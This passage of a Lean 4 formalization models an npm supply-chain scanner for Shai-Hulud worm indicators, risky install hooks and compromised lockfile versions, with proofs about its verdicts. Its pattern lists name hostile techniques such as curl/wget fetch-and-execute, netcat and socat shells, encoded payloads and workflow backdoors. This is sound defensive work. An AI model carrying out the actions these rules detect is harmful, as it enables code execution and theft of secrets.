    ⟨reTest (liti "setup_bun"), "Shai-Hulud Loader", "SHAI_HULUD"⟩,
    ⟨reTest (liti "bun_environment"), "Shai-Hulud Payload", "SHAI_HULUD"⟩,
    ⟨reTest (liti "SHA1HULUD"), "Shai-Hulud Signature", "SHAI_HULUD"⟩,
    ⟨reTest critNodeE, "Hidden child_process", "CODE_INJECTION"⟩,
    ⟨reTest critChildExec, "Shell command via child_process", "CODE_INJECTION"⟩,
    ⟨reTest (.cat (lit "$(") (liti "curl")), "Subshell curl", "REMOTE_CODE_EXEC"⟩,
    ⟨reTest (.cat (chr (Char.ofNat 96)) (liti "curl")), "Backtick curl", "REMOTE_CODE_EXEC"⟩,
    ⟨reTest critBashC, "bash -c curl", "REMOTE_CODE_EXEC"⟩,
    ⟨reTest critCurlSave, "curl save & exec", "REMOTE_CODE_EXEC"⟩,
    ⟨reTest critWgetSave, "wget save & exec", "REMOTE_CODE_EXEC"⟩,
    ⟨reTest critRequireChild, "Direct child_process call", "CODE_INJECTION"⟩,
    ⟨fun s => searchAfterBoundary critSyncExec none s.toList, "Sync process execution", "CODE_INJECTION"⟩,
    ⟨reTest critWorkflow, "GitHub workflow backdoor", "PERSISTENCE"⟩,
    ⟨reTest critDocker, "Privileged Docker run", "PRIV_ESC"⟩,
    ⟨fun s => searchAux (.cat critHostMountBase (.cls (fun c => !wordChar c))) s.toList ||
        searchToEnd critHostMountBase s.toList, "Host mount in container", "PRIV_ESC"⟩ ]

/-- `[0-9a-fA-F]`. -/
def hexCls : RE :=
  .cls (fun c => ('0' ≤ c && c ≤ '9') || ('a' ≤ c && c ≤ 'f') || ('A' ≤ c && c ≤ 'F'))

/-- `[a-zA-Z]`. -/
def alphaCls : RE :=
  .cls (fun c => ('a' ≤ c && c ≤ 'z') || ('A' ≤ c && c ≤ 'Z'))

/-- `/http:\/\/[^\s"']{1,200}/`. -/
def warnHttp : RE :=
  .cat (lit "http://") (.rep (.cls (fun c => !isWsJS c && c ≠ '"' && c ≠ apos)) 1 200)

/-- `/\\x[0-9a-fA-F]{2}/`. -/
def warnHex : RE := .cat (lit "\\x") (.rep hexCls 2 2)

/-- `/Buffer\.from\s*\([^)]{1,100},\s*['"]base64['"]\)/`. -/
def warnBufB64 : RE :=
  .cat (lit "Buffer.from") (.cat (.star ws) (.cat (chr '(') (.cat (.rep (noC ')') 1 100)
    (.cat (chr ',') (.cat (.star ws) (.cat qCls (.cat (lit "base64") (.cat qCls (chr ')')))))))))

/-- `/Buffer\.from\s*\([^)]{1,100},\s*['"]hex['"]\)/`. -/
def warnBufHex : RE :=
  .cat (lit "Buffer.from") (.cat (.star ws) (.cat (chr '(') (.cat (.rep (noC ')') 1 100)
    (.cat (chr ',') (.cat (.star ws) (.cat qCls (.cat (lit "hex") (.cat qCls (chr ')')))))))))

/-- `/Function\s*\([^)]{0,200}\)/`. -/
def warnFunction : RE :=
  .cat (lit "Function") (.cat (.star ws) (.cat (chr '(') (.cat (.rep (noC ')') 0 200) (chr ')'))))

/-- `/https?:\/\/api\.github\.com\/(?:repos|gists|uploads)/i`. -/
def warnGithubApi : RE :=
  .cat (liti "http") (.cat (opt (chri 's')) (.cat (lit "://") (.cat (liti "api.github.com/")
    (.alt (liti "repos") (.alt (liti "gists") (liti "uploads"))))))

/-- `/child_process\.(?:exec|spawn|execSync|spawnSync)\([^)]{0,50}(?:curl|wget|nc|bash|sh)/i`. -/
def warnChildNet : RE :=
  .cat (liti "child_process.") (.cat
    (.alt (liti "exec") (.alt (liti "spawn") (.alt (liti "execSync") (liti "spawnSync"))))
    (.cat (chr '(') (.cat (.rep (noC ')') 0 50)
      (.alt (liti "curl") (.alt (liti "wget") (.alt (liti "nc") (.alt (liti "bash") (liti "sh"))))))))

/-- `/\bnc\b\s+(?:-[a-zA-Z]+\s+){0,5}\S+/i` after the leading boundary;
the boundary after `nc` is implied by the mandatory `\s+`. -/
def warnNc : RE :=
  .cat (liti "nc") (.cat (plus ws)
    (.cat (.rep (.cat (chr '-') (.cat (plus alphaCls) (plus ws))) 0 5) (plus nws)))

/-- `/\bsocat\b\s+/i` after the leading boundary (trailing boundary is
implied by the mandatory `\s+`). -/
def warnSocat : RE := .cat (liti "socat") (plus ws)

/-- `WARNING_PATTERNS`, in source order. -/
def WARNING_PATTERNS : List ScriptRule :=
  [ ⟨reTest warnHttp, "Unencrypted HTTP", "INSECURE_NETWORK"⟩,
    ⟨reTest warnHex, "Hex-encoded string", "OBFUSCATION"⟩,
    ⟨reTest (lit "String.fromCharCode"), "Char code obfuscation", "OBFUSCATION"⟩,
    ⟨reTest (.cat (lit "atob") (.cat (.star ws) (chr '('))), "Base64 atob decode", "OBFUSCATION"⟩,
    ⟨reTest warnBufB64, "Buffer base64 decode", "OBFUSCATION"⟩,
    ⟨reTest warnBufHex, "Buffer hex decode", "OBFUSCATION"⟩,
    ⟨reTest warnFunction, "Dynamic function creation", "OBFUSCATION"⟩,
    ⟨reTest (liti "actions/upload-artifact"), "GitHub Actions artifact usage", "EXFIL_ATTEMPT"⟩,
    ⟨reTest warnGithubApi, "GitHub API interaction", "EXFIL_ATTEMPT"⟩,
    ⟨reTest warnChildNet, "Shelling out to network tools", "CODE_INJECTION"⟩,
    ⟨fun s => searchAfterBoundary warnNc none s.toList, "Netcat usage", "BACKDOOR_PRIMITIVE"⟩,
    ⟨fun s => searchAfterBoundary warnSocat none s.toList, "socat usage", "BACKDOOR_PRIMITIVE"⟩ ]

/-- The lifecycle hooks `checkScripts` inspects, in source order. -/
def lifecycleHooks : List String :=
  ["preinstall", "install", "postinstall", "prepublish", "prepare",
   "preuninstall", "postuninstall"]

/-- `content.version || 'UNKNOWN'` as interpolated into a script issue. -/
def scriptIssueVersion (content : Json) : String :=
  match jsonField content "version" with
  | some v => if jsonTruthy v then jsonDisplay v else "UNKNOWN"
  | none => "UNKNOWN"

/-- Analysis of one hook command.  The returned flag is `true` when a
`CRITICAL` pattern fired (the source then `return`s out of
`checkScripts` entirely). -/
def checkScriptsCmd (content : Json) (pkgName pkgPath cmd : String)
    (st : ScanState) : ScanState × Bool :=
  let truncatedCmd := jsSlice cmd 2000
  if SCRIPT_WHITELIST.contains truncatedCmd then (st, false)
  else if SCRIPT_WHITELIST_REGEX.any (fun t => t truncatedCmd) then (st, false)
  else
    match CRITICAL_PATTERNS.find? (fun r => r.test truncatedCmd) with
    | some rule =>
      (pushIssue ⟨"CRITICAL_SCRIPT", pkgName, scriptIssueVersion content, pkgPath,
          rule.indicator ++ ": " ++ rule.desc⟩ st, true)
    | none =>
      (WARNING_PATTERNS.foldl (fun acc r =>
          if r.test truncatedCmd then
            pushIssue ⟨"SCRIPT_WARNING", pkgName, scriptIssueVersion content, pkgPath,
                r.indicator ++ ": " ++ r.desc⟩ acc
          else acc) st, false)

/-- The hook loop of `checkScripts`. -/
def checkScriptsLoop (content scriptsJ : Json) (pkgName pkgPath : String) :
    List String → ScanState → ScanState
| [], st => st
| hook :: rest, st =>
  match jsonField scriptsJ hook with
  | none => checkScriptsLoop content scriptsJ pkgName pkgPath rest st
  | some cmdJ =>
    if !jsonTruthy cmdJ then checkScriptsLoop content scriptsJ pkgName pkgPath rest st
    else
      match cmdJ with
      | .str cmd =>
        match checkScriptsCmd content pkgName pkgPath cmd st with
        | (st2, true) => st2
        | (st2, false) => checkScriptsLoop content scriptsJ pkgName pkgPath rest st2
      | _ => checkScriptsLoop content scriptsJ pkgName pkgPath rest st

/-- `checkScripts(content, pkgName, pkgPath)`. -/
def checkScripts (content : Json) (pkgName pkgPath : String) (st : ScanState) : ScanState :=
  match jsonField content "scripts" with
  | none => st
  | some scriptsJ =>
    if !jsonTruthy scriptsJ then st
    else
      match scriptsJ with
      | .obj _ | .arr _ =>
        let hasLifecycleHooks := lifecycleHooks.any (fun h =>
          match jsonField scriptsJ h with
          | some v => jsonTruthy v
          | none => false)
        if !hasLifecycleHooks then st
        else checkScriptsLoop content scriptsJ pkgName pkgPath lifecycleHooks st
      | _ => st

/-! ## Lockfile matchers -/

/-- The denylist: package name to its compromised-version set
(`badPackages`; JS `Set` membership becomes list membership). -/
def Denylist : Type := String → Option (List String)

/-- `Object.entries` of a parsed value (arrays expose indexed entries). -/
def jsonEntries : Json → List (String × Json)
| .obj kvs => kvs
| .arr xs => xs.enum.map (fun p => (toString p.1, p.2))
| _ => []

/-- Is the value a JS `object` other than `null` (object or array)? -/
def jsonObjLike : Json → Bool
| .obj _ => true
| .arr _ => true
| _ => false

/-- `checkVersionMatch(pkg, ver, badVersions, lockPath, type)`.  The `ver`
argument is the raw JSON property (absent property modeled as `none`);
non-strings and the empty string are rejected by the guard. -/
def checkVersionMatch (pkg : String) (ver : Option Json) (badVersions : List String)
    (lockPath type : String) (st : ScanState) : ScanState :=
  match ver with
  | some (.str v) =>
    if v = "" then st
    else
      let cleanVer := jsSlice v 50
      if badVersions.contains cleanVer then
        pushIssue ⟨"LOCKFILE_HIT", pkg, cleanVer, lockPath, "Exact match in " ++ type⟩ st
      else if badVersions.contains "*" then
        pushIssue ⟨"WILDCARD_LOCK_HIT", pkg, cleanVer, lockPath, "Wildcard match in " ++ type⟩ st
      else st
  | _ => st

/-- `checkDependenciesRecursive(deps, badPackages, lockPath, depth)`.  The
`fuel` parameter only enables structural recursion; it is unreachable
whenever `fuel > 101 - depth`, since the source's own `depth > 100` guard
stops first. -/
def checkDependenciesRecursive (bad : Denylist) (lockPath : String) :
    Nat → Nat → List (String × Json) → ScanState → ScanState
| 0, _, _, st => st
| fuel + 1, depth, deps, st =>
  if depth > 100 then st
  else
    deps.foldl (fun acc kv =>
      let acc2 :=
        match bad kv.1 with
        | some badVersions =>
          match jsonField kv.2 "version" with
          | some verJ =>
            if jsonTruthy verJ then
              checkVersionMatch kv.1 (some verJ) badVersions lockPath "NPM_LOCK_V1" acc
            else acc
          | none => acc
        | none => acc
      match jsonField kv.2 "dependencies" with
      | some depsJ =>
        if jsonTruthy depsJ && jsonObjLike depsJ then
          checkDependenciesRecursive bad lockPath fuel (depth + 1) (jsonEntries depsJ) acc2
        else acc2
      | none => acc2) st
termination_by fuel _ _ _ => fuel

/-- Strip of `/^.*node_modules\//` from a lockfile `packages` key: removes
everything up to and including the last `node_modules/` occurrence whose
preceding prefix is newline-free (the dot does not match newlines). -/
def stripScan : List Char → Option (List Char)
| [] => none
| c :: rest =>
  let here :=
    if ("node_modules/".toList).isPrefixOf (c :: rest) then
      some ((c :: rest).drop ("node_modules/".toList).length)
    else none
  let further := if c = '\n' then none else stripScan rest
  match further with
  | some r => some r
  | none => here

/-- `key.replace(/^.*node_modules\//, '')`. -/
def stripNodeModulesKey (key : String) : String :=
  match stripScan key.toList with
  | some rest => rest.asString
  | none => key

/-- First capture of the yarn package-declaration pattern `^"?([^@"]+)@`. -/
def yarnPkgDecl (line : String) : Option String :=
  let cs := if strStarts line "\"" then line.toList.drop 1 else line.toList
  let run := cs.takeWhile (fun c => c ≠ '@' && c ≠ '"')
  if run.length > 0 && ((cs.drop run.length).head? = some '@') then some run.asString
  else none

/-- Match of `version\s+"([^"]+)"` anchored at the current position. -/
def yarnVersionHere (cs : List Char) : Option String :=
  if ("version".toList).isPrefixOf cs then
    let cs1 := cs.drop 7
    let wsRun := cs1.takeWhile isWsJS
    if wsRun.length = 0 then none
    else
      match cs1.drop wsRun.length with
      | '"' :: cs3 =>
        let v := cs3.takeWhile (fun c => c ≠ '"')
        if v.length > 0 && (cs3.drop v.length ≠ []) then some v.asString else none
      | _ => none
  else none

/-- First (leftmost) capture of `line.match(/version\s+"([^"]+)"/)`. -/
def yarnVersionOf : List Char → Option String
| [] => none
| c :: rest =>
  match yarnVersionHere (c :: rest) with
  | some v => some v
  | none => yarnVersionOf rest

/-- One line of the single-pass yarn.lock state machine (state: the
pending `currentPkg`). -/
def yarnLineStep (bad : Denylist) (lockPath : String)
    (acc : ScanState × Option String) (line : String) : ScanState × Option String :=
  let (st, currentPkg) := acc
  if line ≠ "" && !strStarts line " " && strHasChar line '@' && strEnds line ":" then
    match yarnPkgDecl line with
    | some p => (st, some p)
    | none => (st, currentPkg)
  else
    match currentPkg with
    | some pkg =>
      if strStarts (strTrim line) "version " then
        match yarnVersionOf line.toList with
        | some currentVersion =>
          let st2 :=
            match bad pkg with
            | some badVersions =>
              if badVersions.contains "*" then
                pushIssue ⟨"WILDCARD_LOCK_HIT", pkg, currentVersion, lockPath,
                  "Yarn Lock match (Wildcard)"⟩ st
              else if badVersions.contains currentVersion then
                pushIssue ⟨"LOCKFILE_HIT", pkg, currentVersion, lockPath,
                  "Yarn Lock match (Strict)"⟩ st
              else st
            | none => st
          (st2, none)
        | none => (st, some pkg)
      else (st, some pkg)
    | none => (st, currentPkg)

/-- `checkLockfile(lockPath, badPackages)`. -/
def checkLockfile (fs : FS) (jsonParse : String → Except String Json) (bad : Denylist)
    (lockPath : String) (st : ScanState) : ScanState :=
  if st.shuttingDown then st
  else
    let st := { st with lockfilesChecked := st.lockfilesChecked + 1 }
    let fileName := pathBasename lockPath
    let r := safeReadFile fs lockPath MAX_LOCKFILE_SIZE_BYTES
    match r.content with
    | none => st
    | some content =>
      if fileName = "package-lock.json" || fileName = "npm-shrinkwrap.json" then
        match jsonParse content with
        | .error _ => st
        | .ok json =>
          let st2 :=
            match jsonField json "packages" with
            | some pkgsJ =>
              if jsonTruthy pkgsJ && jsonObjLike pkgsJ then
                (jsonEntries pkgsJ).foldl (fun acc kv =>
                  let pkgName := stripNodeModulesKey kv.1
                  if pkgName ≠ "" then
                    match bad pkgName with
                    | some badVersions =>
                      match jsonField kv.2 "version" with
                      | some verJ =>
                        if jsonTruthy verJ then
                          checkVersionMatch pkgName (some verJ) badVersions lockPath
                            "NPM_LOCK_V3" acc
                        else acc
                      | none => acc
                    | none => acc
                  else acc) st
              else st
            | none => st
          match jsonField json "dependencies" with
          | some depsJ =>
            if jsonTruthy depsJ && jsonObjLike depsJ then
              checkDependenciesRecursive bad lockPath 102 0 (jsonEntries depsJ) st2
            else st2
          | none => st2
      else if fileName = "yarn.lock" then
        ((strSplit content '\n').foldl (yarnLineStep bad lockPath) (st, none)).1
      else st

/-! ## Core package checking (`checkPackageJson`) -/

/-- One iteration of the forensic loop of `checkPackageJson` (one
`FORENSIC_RULES` entry). -/
def forensicStep (fs : FS) (jsonParse : String → Except String Json)
    (jsonStringify : Json → String) (validatedPkgPath pkgName : String)
    (st : ScanState) (forensicPath : String) : ScanState :=
  let fullPath := pathJoin validatedPkgPath forensicPath
  match fs.lstatSync fullPath with
  | .error _ => st
  | .ok stats =>
    if stats.kind ≠ .file then st
    else
      match validatePath fullPath (some validatedPkgPath) with
      | none => st
      | some validatedFullPath =>
        let verification :=
          verifySuspiciousFile fs jsonParse jsonStringify validatedFullPath forensicPath
        if verification.reason = "Read error" then
          { st with errorsEncountered := st.errorsEncountered + 1 }
        else if verification.confirmed then
          let severity := verification.severity.getD "HIGH"
          let isCritical := severity = "CRITICAL"
          let issueType := if isCritical then "FORENSIC_MATCH" else "FORENSIC_ARTIFACT"
          pushIssue ⟨issueType, pkgName, "UNKNOWN", validatedPkgPath,
            sanitizeForLog forensicPath 100 ++ " (" ++ sanitizeForLog verification.reason 150 ++ ")"⟩ st
        else
          pushIssue ⟨"SAFE_MATCH", pkgName, "UNKNOWN", validatedPkgPath,
            "Benign " ++ sanitizeForLog forensicPath 50 ++ ": " ++
              sanitizeForLog verification.reason 100⟩ st

/-- The forensic loop of `checkPackageJson` over all `FORENSIC_RULES`. -/
def checkForensic (fs : FS) (jsonParse : String → Except String Json)
    (jsonStringify : Json → String) (validatedPkgPath pkgName : String)
    (st : ScanState) : ScanState :=
  (FORENSIC_RULES.map (fun kv => kv.1)).foldl
    (forensicStep fs jsonParse jsonStringify validatedPkgPath pkgName) st

/-- The manifest section of `checkPackageJson`: ghost check, metadata
check, heuristic script check and the version tie-break. -/
def checkManifest (fs : FS) (jsonParse : String → Except String Json) (bad : Denylist)
    (validatedPkgPath pkgPath pkgName : String) (st : ScanState) : ScanState :=
  let pJsonPath := pathJoin validatedPkgPath "package.json"
  let r := safeReadFile fs pJsonPath MAX_FILE_SIZE_BYTES
  match r.content with
  | none =>
    let err := r.error.getD "READ_ERROR"
    match bad pkgName with
    | none => st
    | some _ =>
      if err = "ENOENT" then
        pushIssue ⟨"GHOST_PACKAGE", pkgName, "UNKNOWN", pkgPath,
          "Targeted package folder exists but package.json is missing"⟩ st
      else
        pushIssue ⟨"CORRUPT_PACKAGE", pkgName, "UNKNOWN", pkgPath,
          "package.json " ++ err⟩ st
  | some content =>
    match jsonParse content with
    | .error msg =>
      match bad pkgName with
      | some _ =>
        pushIssue ⟨"CORRUPT_PACKAGE", pkgName, "UNKNOWN", pkgPath,
          "package.json parse error: " ++ msg⟩ st
      | none => st
    | .ok packageJson =>
      let st := checkScripts packageJson pkgName pkgPath st
      match bad pkgName with
      | none => st
      | some targetVersions =>
        match jsonField packageJson "version" with
        | some (.str v) =>
          if v = "" then
            pushIssue ⟨"CORRUPT_PACKAGE", pkgName, "UNKNOWN", pkgPath,
              "Missing or invalid version field"⟩ st
          else
            let hasWildcard := targetVersions.contains "*"
            if hasWildcard || targetVersions.contains v then
              pushIssue ⟨(if hasWildcard then "WILDCARD_MATCH" else "VERSION_MATCH"),
                pkgName, v, pkgPath, ""⟩ st
            else
              pushIssue ⟨"SAFE_MATCH", pkgName, v, pkgPath, ""⟩ st
        | _ =>
          pushIssue ⟨"CORRUPT_PACKAGE", pkgName, "UNKNOWN", pkgPath,
            "Missing or invalid version field"⟩ st

/-- `checkPackageJson(pkgPath, pkgName, badPackages)`: the forensic file
loop followed by the manifest section, in source order. -/
def checkPackageJson (fs : FS) (jsonParse : String → Except String Json)
    (jsonStringify : Json → String) (bad : Denylist)
    (pkgPath pkgName : String) (st : ScanState) : ScanState :=
  if st.shuttingDown then st
  else
    let st := { st with filesChecked := st.filesChecked + 1 }
    match validatePath pkgPath none with
    | none => st
    | some validatedPkgPath =>
      let st := checkForensic fs jsonParse jsonStringify validatedPkgPath pkgName st
      checkManifest fs jsonParse bad validatedPkgPath pkgPath pkgName st

/-- `checkPackageLockfiles(pkgPath, badPackages)`. -/
def checkPackageLockfiles (fs : FS) (jsonParse : String → Except String Json)
    (bad : Denylist) (pkgPath : String) (st : ScanState) : ScanState :=
  ["package-lock.json", "yarn.lock", "npm-shrinkwrap.json"].foldl (fun acc lockFile =>
    let lockPath := pathJoin pkgPath lockFile
    match fs.lstatSync lockPath with
    | .error _ => acc
    | .ok stats =>
      if stats.kind = .file then checkLockfile fs jsonParse bad lockPath acc else acc) st

/-! ## Traversal (`scanNodeModules`, `scanDir`) -/

/-- The package loop of `scanNodeModules` (break on shutdown, return on
the package ceiling, one-level expansion of `@scope/` namespaces). -/
def scanNMLoop (fs : FS) (jsonParse : String → Except String Json)
    (jsonStringify : Json → String) (bad : Denylist) (modulesPath : String) :
    List String → ScanState → ScanState
| [], st => st
| pkg :: rest, st =>
  if st.shuttingDown then st
  else if strStarts pkg "." then
    scanNMLoop fs jsonParse jsonStringify bad modulesPath rest st
  else if st.packagesScanned ≥ MAX_PACKAGES_SCANNED then st
  else if strStarts pkg "@" then
    let scopedPath := pathJoin modulesPath pkg
    let st := { st with readdirLog := st.readdirLog ++ [scopedPath] }
    match fs.readdirSync scopedPath with
    | .error _ =>
      scanNMLoop fs jsonParse jsonStringify bad modulesPath rest
        { st with errorsEncountered := st.errorsEncountered + 1 }
    | .ok scopedEntries =>
      let st2 := (scopedEntries.map (fun e => e.1)).foldl (fun acc sp =>
        let pkgPath := pathJoin scopedPath sp
        let acc := checkPackageJson fs jsonParse jsonStringify bad pkgPath (pkg ++ "/" ++ sp) acc
        let acc := checkPackageLockfiles fs jsonParse bad pkgPath acc
        { acc with packagesScanned := acc.packagesScanned + 1 }) st
      scanNMLoop fs jsonParse jsonStringify bad modulesPath rest st2
  else
    let pkgPath := pathJoin modulesPath pkg
    let st := checkPackageJson fs jsonParse jsonStringify bad pkgPath pkg st
    let st := checkPackageLockfiles fs jsonParse bad pkgPath st
    scanNMLoop fs jsonParse jsonStringify bad modulesPath rest
      { st with packagesScanned := st.packagesScanned + 1 }

/-- `scanNodeModules(modulesPath, badPackages)`. -/
def scanNodeModules (fs : FS) (jsonParse : String → Except String Json)
    (jsonStringify : Json → String) (bad : Denylist) (modulesPath : String)
    (st : ScanState) : ScanState :=
  if st.shuttingDown then st
  else
    let st := { st with readdirLog := st.readdirLog ++ [modulesPath] }
    match fs.readdirSync modulesPath with
    | .error _ => { st with errorsEncountered := st.errorsEncountered + 1 }
    | .ok entries =>
      scanNMLoop fs jsonParse jsonStringify bad modulesPath (entries.map (fun e => e.1)) st

/-- One iteration of the entry loop of `scanDir` (one directory entry);
`recurse` is the recursive call on a subdirectory (it receives the full
path of the entry and the running state). -/
def scanDirEntryStep (fs : FS) (jsonParse : String → Except String Json)
    (jsonStringify : Json → String) (bad : Denylist) (currentPath : String)
    (recurse : String → ScanState → ScanState) (acc : ScanState)
    (e : String × FKind) : ScanState :=
  if acc.shuttingDown then acc
  else
    let fullPath := pathJoin currentPath e.1
    if e.2 = .file && (e.1 = "package-lock.json" || e.1 = "yarn.lock" ||
        e.1 = "npm-shrinkwrap.json") then
      checkLockfile fs jsonParse bad fullPath acc
    else if e.2 = .dir && e.1 = "node_modules" then
      scanNodeModules fs jsonParse jsonStringify bad fullPath acc
    else if e.2 = .dir && !strStarts e.1 "." && !strStarts e.1 "_" then
      recurse fullPath acc
    else acc

/-- `scanDir(currentPath, badPackages, depth, maxDepth)`.  The `fuel`
parameter only enables structural recursion: the source's own guard
`depth > Math.min(maxDepth, MAX_SCAN_DEPTH)` bounds the recursion depth
by `min maxDepth 10 + 1`, so the `fuel = 0` branch is unreachable
whenever `fuel > min maxDepth 10 + 1 - depth` (theorems use `fuel = 12`
from `depth = 0`).  The source's entry loop `break`s on shutdown; the
fold instead skips every remaining entry once `shuttingDown` is set,
which yields the same state. -/
def scanDir (fs : FS) (jsonParse : String → Except String Json)
    (jsonStringify : Json → String) (bad : Denylist) :
    Nat → String → Nat → Nat → ScanState → ScanState
| 0, _, _, _, st => st
| fuel + 1, currentPath, depth, maxDepth, st =>
  if st.shuttingDown then st
  else if st.directoriesScanned ≥ MAX_DIRECTORIES_SCANNED then st
  else if depth > min maxDepth MAX_SCAN_DEPTH then st
  else
    match validatePath currentPath none with
    | none => st
    | some validated =>
      let symlinkCheck := checkSymlink fs validated 0
      if symlinkCheck.isSymlink && !symlinkCheck.safe then
        { st with symlinksSkipped := st.symlinksSkipped + 1 }
      else
        let currentPath2 :=
          if symlinkCheck.isSymlink then symlinkCheck.realPath.getD currentPath
          else currentPath
        let st := { st with directoriesScanned := st.directoriesScanned + 1 }
        if pathBasename currentPath2 = "node_modules" then
          scanNodeModules fs jsonParse jsonStringify bad currentPath2 st
        else
          let st := { st with readdirLog := st.readdirLog ++ [currentPath2] }
          match fs.readdirSync currentPath2 with
          | .error _ => { st with errorsEncountered := st.errorsEncountered + 1 }
          | .ok entries =>
            let st := checkPackageJson fs jsonParse jsonStringify bad currentPath2
              (pathBasename currentPath2) st
            entries.foldl
              (scanDirEntryStep fs jsonParse jsonStringify bad currentPath2
                (fun p a => scanDir fs jsonParse jsonStringify bad fuel p
                  (depth + 1) maxDepth a)) st

/-! ## CI/CD exit-code logic -/

/-- The critical-kind issue taxonomy of the exit-code logic. -/
def criticalTypes : List String :=
  ["FORENSIC_MATCH", "CRITICAL_SCRIPT", "VERSION_MATCH", "WILDCARD_MATCH",
   "LOCKFILE_HIT", "WILDCARD_LOCK_HIT"]

/-- The warning-kind issue taxonomy of the exit-code logic. -/
def warningTypes : List String :=
  ["SCRIPT_WARNING", "GHOST_PACKAGE", "CORRUPT_PACKAGE"]

/-- The argument following the first bare `--fail-on`, if any. -/
def argAfterFailOn : List String → Option String
| [] => none
| a :: rest => if a = "--fail-on" then rest.head? else argAfterFailOn rest

/-- The `--fail-on` parsing of `main`: returns whether the flag was
explicitly provided, and the effective threshold (defaulting to
`critical`). -/
def parseFailOn (args : List String) : Bool × String :=
  let failOnEqArg := args.find? (fun a => strStarts a "--fail-on=")
  let hasBareFlag := args.contains "--fail-on"
  let failOn :=
    match failOnEqArg with
    | some a =>
      let val := strLower ((strSplit a '=').getD 1 "")
      if val = "critical" || val = "warning" || val = "off" then val else "critical"
    | none =>
      match (if hasBareFlag then argAfterFailOn args else none) with
      | some next =>
        if next = "" then "critical"
        else
          let val := strLower next
          if val = "critical" || val = "warning" || val = "off" then val else "critical"
      | none => "critical"
  (failOnEqArg.isSome || hasBareFlag, failOn)

/-- The CI/CD exit-code block at the end of `main`: the process exit code
as a function of whether `--fail-on` was provided, the threshold, and the
recorded issues (`0` also models falling through to a normal exit). -/
def ciExitCode (failOnProvided : Bool) (failOn : String) (issues : List Issue) : Nat :=
  if failOnProvided then
    let criticalCount := (issues.filter (fun i => criticalTypes.contains i.type)).length
    let warningCount := (issues.filter (fun i => warningTypes.contains i.type)).length
    if failOn = "off" then 0
    else if failOn = "critical" then (if criticalCount > 0 then 1 else 0)
    else if failOn = "warning" then
      (if criticalCount > 0 || warningCount > 0 then 1 else 0)
    else 0
  else 0

/-- The exit code of a completed scan, from the raw argument list. -/
def mainExitCode (args : List String) (issues : List Issue) : Nat :=
  let p := parseFailOn args
  ciExitCode p.1 p.2 issues

/-! ## Shared proof helpers and sample inputs -/

/-- Number of recorded issues of the given type. -/
def countType (t : String) (issues : List Issue) : Nat :=
  (issues.filter (fun i => i.type = t)).length

/-- The all-zero initial scan state. -/
def scanState0 : ScanState := ⟨[], 0, 0, 0, 0, 0, 0, false, []⟩

/-- A `JSON.parse` oracle that rejects everything. -/
def jpNone : String → Except String Json := fun _ => .error "Unexpected token"

/-- A trivial `JSON.stringify` oracle. -/
def jsEmpty : Json → String := fun _ => ""

/-- An empty denylist. -/
def badEmpty : Denylist := fun _ => none

/-- A filesystem with no readable entries. -/
def fsEmpty : FS :=
  ⟨fun _ => .error "ENOENT", fun _ => .error "ENOENT", fun _ => .error "ENOENT",
   fun _ => .error "ENOENT", fun _ => .error "ENOENT", fun _ => false⟩

theorem countType_append (t : String) (a b : List Issue) :
    countType t (a ++ b) = countType t a + countType t b := by
  simp [countType, List.filter_append]

theorem countType_pushIssue (t : String) (i : Issue) (st : ScanState) :
    countType t (pushIssue i st).issues =
      countType t st.issues + (if i.type = t then 1 else 0) := by
  simp only [pushIssue, countType_append]
  by_cases h : i.type = t <;> simp [countType, h]

theorem forensicLookup_ne_empty (name : String) (rule : ForensicRule)
    (h : forensicLookup name = some rule) : name ≠ "" := by
  intro hn
  subst hn
  rw [show forensicLookup "" = none from rfl] at h
  exact Option.noConfusion h

/-! ## Claim C5 -/

/-- Claim C5: for every forensic rule of tier CRITICAL (`checkContent`
false), `verifySuspiciousFile` confirms with severity CRITICAL without
consulting the filesystem, so the verdict is identical for any two
filesystem/oracle states (mutating the file content cannot change it). -/
theorem critical_rule_verdict_content_independent
    (name : String) (rule : ForensicRule)
    (hlook : forensicLookup name = some rule)
    (hcc : rule.checkContent = false)
    (hty : rule.type = "CRITICAL")
    (filePath : String) (hne : filePath ≠ "")
    (hlen : filePath.length ≤ MAX_PATH_LENGTH)
    (hnull : strHasChar filePath (Char.ofNat 0) = false)
    (fs fs2 : FS) (jp jp2 : String → Except String Json) (jstr jstr2 : Json → String) :
    verifySuspiciousFile fs jp jstr filePath name =
      ⟨true, "High confidence IOC", some "CRITICAL"⟩ ∧
    verifySuspiciousFile fs jp jstr filePath name =
      verifySuspiciousFile fs2 jp2 jstr2 filePath name := by
  have hname : name ≠ "" := forensicLookup_ne_empty name rule hlook
  have hval : validatePath filePath none = some filePath := by
    unfold validatePath
    simp [hne, Nat.not_lt.mpr hlen, hnull]
  have key : ∀ (fs' : FS) (jp' : String → Except String Json) (jstr' : Json → String),
      verifySuspiciousFile fs' jp' jstr' filePath name =
        ⟨true, "High confidence IOC", some "CRITICAL"⟩ := by
    intro fs' jp' jstr'
    unfold verifySuspiciousFile
    simp [hne, hname, hval, hlook, hcc, hty]
  exact ⟨key fs jp jstr, by rw [key fs jp jstr, key fs2 jp2 jstr2]⟩

/-- Sample filesystem for C5: `/pkg/setup_bun.js` holds one content. -/
def fsC5a : FS :=
  ⟨fun p => if p = "/pkg/setup_bun.js" then .ok ⟨.file, 3, 0⟩ else .error "ENOENT",
   fun p => if p = "/pkg/setup_bun.js" then .ok ⟨.file, 3, 0⟩ else .error "ENOENT",
   fun p => if p = "/pkg/setup_bun.js" then .ok "AAA" else .error "ENOENT",
   fun p => .ok p, fun _ => .error "ENOTDIR", fun p => p = "/pkg/setup_bun.js"⟩

/-- Sample filesystem for C5: the same file with different content. -/
def fsC5b : FS :=
  ⟨fun p => if p = "/pkg/setup_bun.js" then .ok ⟨.file, 9, 5⟩ else .error "ENOENT",
   fun p => if p = "/pkg/setup_bun.js" then .ok ⟨.file, 9, 5⟩ else .error "ENOENT",
   fun p => if p = "/pkg/setup_bun.js" then .ok "different" else .error "ENOENT",
   fun p => .ok p, fun _ => .error "ENOTDIR", fun p => p = "/pkg/setup_bun.js"⟩

/-- Witness for C5 at `setup_bun.js` with two differing file contents. -/
theorem critical_rule_verdict_content_independent_witness :
    (forensicLookup "setup_bun.js" = some nameOnlyRule ∧
     nameOnlyRule.checkContent = false ∧ nameOnlyRule.type = "CRITICAL" ∧
     ("/pkg/setup_bun.js" : String) ≠ "" ∧
     ("/pkg/setup_bun.js" : String).length ≤ MAX_PATH_LENGTH ∧
     strHasChar "/pkg/setup_bun.js" (Char.ofNat 0) = false) ∧
